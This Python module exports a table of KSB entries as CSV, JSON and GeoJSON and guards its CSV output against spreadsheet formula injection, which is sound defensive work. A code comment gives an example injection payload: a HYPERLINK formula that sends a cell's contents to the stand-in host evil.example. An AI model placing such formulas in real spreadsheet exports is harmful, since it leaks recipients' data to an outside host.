"""The public KSB table: one row per KSB, the same columns (:data:`~siaga.published.catalogue.COLUMNS`) in
CSV, JSON and GeoJSON."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from typing import Any

from ..content.model import Content
from ..published.catalogue import COLUMNS, Value
from ..published.urls import SiteUrls


def ksb_rows(content: Content, urls: SiteUrls) -> list[dict[str, Value]]:
    """One typed row per KSB, in the order of the content (region, then file name)."""
    return [{column.name: column.value(entry, urls) for column in COLUMNS} for entry in content.ksb]


def _cell(value: Value) -> str:
    """A typed value as CSV text: lists joined by "; ", booleans as true/false, nothing as empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "; ".join(value)
    return str(value)


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV Injection"): a KSB named
# =HYPERLINK("https://evil.example/?d="&A2,"Klik") would run in a partner's Excel. Such a cell gets a leading
# apostrophe, which Excel and LibreOffice read as "this is text" and do not show; /data/ tells code to drop it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# A negative decimal number (a latitude in Banten) is read as the number it is, and runs nothing: it stays as written,
# so tools that read the CSV as typed (the data package) get a number.
_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def spreadsheet_text(text: str) -> str:
    """A cell a spreadsheet shows as the text it is: ``'`` before a formula's first character (+62..., =, @)."""
    return "'" + text if text.startswith(FORMULA_STARTS) and not _NEGATIVE_NUMBER.fullmatch(text) else text


def to_csv(rows: list[dict[str, Value]], *, hxl: bool = False, columns: Sequence[Any] = COLUMNS) -> bytes:
    """UTF-8 CSV (RFC 4180, via the csv module); with ``hxl`` a row of HXL hashtags follows the header.

    Every cell that a spreadsheet would run as a formula is neutralised (:func:`spreadsheet_text`); so is a
    phone number in E.164 (+62...), which Excel would otherwise turn into 6.28E+12."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([column.name for column in columns])
    if hxl:
        writer.writerow([column.hxl for column in columns])
    for row in rows:
        writer.writerow([spreadsheet_text(_cell(row[column.name])) for column in columns])
    return buffer.getvalue().encode("utf-8")


def _json(value: object) -> bytes:
    # Compact: these files are for tools, and the indented form is half again as large on a phone's data.
    return (json.dumps(value, ensure_ascii=False, separators=(",", ":")) + "\n").encode("utf-8")


def to_json(rows: list[dict[str, Value]]) -> bytes:
    """The same rows as a JSON array, values typed (numbers, true/false, null, lists)."""
    return _json(rows)


def to_geojson(rows: list[dict[str, Value]]) -> bytes:
    """RFC 7946 FeatureCollection: a point per KSB that has coordinates, the row as its properties."""
    features: list[dict[str, Any]] = [
        {
            "type": "Feature",
            "id": row["id"],
            "geometry": {"type": "Point", "coordinates": [row["lon"], row["lat"]]},  # GeoJSON is longitude first
            "properties": row,
        }
        for row in rows
        if row["lat"] is not None and row["lon"] is not None
    ]
    return _json({"type": "FeatureCollection", "features": features})
